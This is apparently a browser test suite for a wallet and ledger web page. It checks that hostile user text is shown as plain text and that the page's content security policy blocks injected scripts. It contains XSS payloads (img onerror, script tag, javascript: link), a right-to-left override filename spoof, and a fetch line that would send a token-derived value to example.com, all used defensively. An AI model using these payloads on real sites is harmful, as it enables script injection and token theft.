import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { hasNoBrowser } from '../browser.ts';
import { Site, type Tab } from './tab.ts';

const SCRIPT = `<img src=x onerror="window.ran=1"><script>window.ran=1</script>`;
const LINK = 'javascript:window.ran=1';
/** Turns the direction of everything after it, unless it is isolated. */
const TURNED = '\u202Egnp.exe';
const PATHS = ['wallet', 'wallet/offers', 'wallet/history', 'wallet/send', 'wallet/coins', 'ledger', 'ledger/updates'];

describe.skipIf(hasNoBrowser)('the page with hostile texts', () => {
  let site: Site;
  beforeAll(async () => {
    site = await Site.open({ start: { parties: [{ name: 'alice', coins: [10] }] } });
    for (const [user, text] of [
      [SCRIPT, 'a name'],
      ['bob', SCRIPT],
      ['bob', LINK],
      ['bob', TURNED],
    ] as const)
      await offered(user, text);
  });
  afterEach(() => site.closeTabs());
  afterAll(() => site?.close());

  async function asked(path: string, token: string, body: unknown): Promise<Response> {
    const headers = { 'Content-Type': 'application/json', Authorization: `Bearer ${token}` };
    const answer = await site.server.fetch(path, { method: 'POST', headers, body: JSON.stringify(body) });
    expect(answer.status, path).toBe(200);
    return answer;
  }

  /** Onboards a user, who offers coin to alice. */
  async function offered(user: string, description: string): Promise<void> {
    const { token } = (await (await asked('/dev/tokens', 'none', { user })).json()) as { token: string };
    await asked('/v0/register', token, {});
    await asked('/v0/wallet/tap', token, { amount: '1' });
    await asked('/v0/wallet/token-standard/transfers', token, {
      receiver_party_id: site.server.party('alice'),
      amount: '1.0',
      description,
      expires_at: Number(site.server.now) + 3_600_000_000,
      tracking_id: `${user}-${description}`,
    });
  }

  async function expectHarmless({ page, faults }: Tab): Promise<void> {
    expect(await page.evaluate('window.ran')).toBeUndefined();
    expect(await page.locator('#page img, #page script, #page a[href^="javascript"]').count()).toBe(0);
    expect(faults).toEqual([]);
  }

  it('shows names and texts of other users as plain text on every screen', async () => {
    const tab = await site.tab('#/wallet?user=alice');
    const offers = tab.page.getByRole('table', { name: 'Incoming offers' });
    await offers.getByText(SCRIPT).waitFor();
    await offers.getByText(LINK).waitFor();
    // The direction of a text ends with the text.
    expect(await offers.locator('bdi', { hasText: TURNED }).count()).toBe(1);
    for (const path of PATHS) {
      await tab.open(`#/${path}?user=alice`);
      await expectHarmless(tab);
    }
  });

  it('shows a user name that contains markup as plain text', async () => {
    const tab = await site.tab(`#/wallet?user=${encodeURIComponent(SCRIPT)}`);
    await tab.page.getByRole('button', { name: SCRIPT }).first().click();
    await tab.page.getByRole('dialog').waitFor();
    await expectHarmless(tab);
  });

  it.each(['user', 'party', 'text', 'contract', 'template', 'at', 'log', 'kind'])(
    'shows markup in the parameter %s of the address as plain text',
    async (name) => {
      const tab = await site.tab(`#/ledger?user=alice`);
      await tab.open(`#/ledger?${name}=${encodeURIComponent(SCRIPT)}`);
      await tab.open(`#/ledger/updates?${name}=${encodeURIComponent(SCRIPT)}`);
      await expectHarmless(tab);
    },
  );

  // Names of forks and snapshots cannot contain markup: it appears only in the request that the page would send.
  it.each([
    ['server/forks', { 'Name of the fork': SCRIPT }, 'Fork the ledger', ['pre']],
    ['server', { 'Snapshot name': SCRIPT }, 'Take a snapshot', ['pre']],
    [
      'server/automation',
      { 'Receiver who accepts': SCRIPT, 'Offers from': SCRIPT },
      'Accept automatically',
      ['bdi', '.notice strong', '.notice pre'],
    ],
    ['server/faults', { 'Start of the paths': `/${SCRIPT}` }, 'Activate the plan', ['code', '.notice pre']],
  ] as const)('shows markup that a user types in the view %s as plain text', async (view, fields, button, places) => {
    const tab = await site.tab(`#/${view}?user=alice`);
    for (const [label, text] of Object.entries(fields))
      await tab.page
        .getByRole('textbox', { name: label })
        .or(tab.page.getByRole('combobox', { name: label }))
        .fill(text);
    const submit = tab.page.getByRole('button', { name: button });
    if (await submit.isEnabled()) await submit.click();
    for (const place of places) {
      // A request is printed as JSON in a shell command.
      const shown = place.endsWith('pre') ? JSON.stringify(SCRIPT).slice(1, -1) : SCRIPT;
      await tab.page.locator(place, { hasText: shown }).first().waitFor({ state: 'attached' });
    }
    await tab.open(`#/server/refusals?user=alice`);
    await expectHarmless(tab);
    await site.server.fetch('/dev/faults', { method: 'DELETE' });
  });

  it('shows markup in a refusal of the server as plain text', async () => {
    const tab = await site.tab('#/wallet/send?user=alice');
    await tab.page.route('**/v0/wallet/**', (route) =>
      route.request().method() === 'GET'
        ? route.continue()
        : route.fulfill({ status: 400, contentType: 'application/json', body: JSON.stringify({ error: SCRIPT }) }),
    );
    await tab.open('#/wallet?user=alice');
    await tab.page.getByRole('button', { name: 'Tap' }).click();
    await tab.page.locator('.notice, .help.bad, [role=alert]').filter({ hasText: SCRIPT }).first().waitFor();
    await expectHarmless(tab);
  });

  it('shows the refusal of a malformed token as plain text, and sends the token to its own server only', async () => {
    const tab = await site.tab('#/wallet');
    const claims = Buffer.from(JSON.stringify({ sub: SCRIPT })).toString('base64url');
    for (const token of [SCRIPT, `${claims}.${claims}.${claims}`]) {
      await tab.page.getByLabel('Paste a token').fill(token);
      await tab.page.getByRole('button', { name: 'Sign in' }).click();
      await tab.page.getByRole('alert').waitFor();
    }
    await expectHarmless(tab);
    expect(await tab.page.evaluate('localStorage.length')).toBe(0);
  });

  it('stores a token in the tab only', async () => {
    const tab = await site.tab('#/wallet?user=alice');
    expect(await tab.page.evaluate('[localStorage.length, document.cookie, location.href.includes("eyJ")]')).toEqual([
      0,
      '',
      false,
    ]);
    expect(await tab.page.evaluate('sessionStorage.length')).toBe(1);
  });

  it('does not run scripts that a hostile text adds to the document, and sends no request to other servers', async () => {
    const tab = await site.tab('#/wallet?user=alice');
    const refused = await tab.page.evaluate(`(async () => {
      const tries = {
        html: () => (document.body.innerHTML = '<img src=x onerror="window.ran=1">'),
        // The browser lets a program that debugs it evaluate code, but not a later task of the page.
        code: () => new Promise((resolve, reject) => setTimeout(() => {
          try { resolve(eval('window.ran = 1')); } catch (error) { reject(error); }
        })),
        inline: () => { const s = document.createElement('script'); s.text = 'window.ran = 1'; document.body.append(s); },
        elsewhere: () => fetch('https://example.com/?token=' + sessionStorage.length),
      };
      const found = [];
      for (const [name, run] of Object.entries(tries)) await Promise.resolve().then(run).catch(() => found.push(name));
      return found;
    })()`);
    expect(refused).toEqual(['html', 'code', 'inline', 'elsewhere']);
    expect(await tab.page.evaluate('window.ran')).toBeUndefined();
    const hosts = new Set(tab.hosts);
    expect([...hosts]).toEqual([new URL(site.listening.url).host]);
  });

  it('is served with a policy that allows nothing but its own files', async () => {
    const answer = await site.server.fetch('/', { headers: { Accept: 'text/html' } });
    const policy = answer.headers.get('content-security-policy') ?? '';
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain("script-src 'self';");
    expect(policy).toContain("require-trusted-types-for 'script'; trusted-types 'none'");
    expect(policy).not.toMatch(/unsafe|\*|https?:/);
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
    expect(answer.headers.get('referrer-policy')).toBe('no-referrer');
  });
});
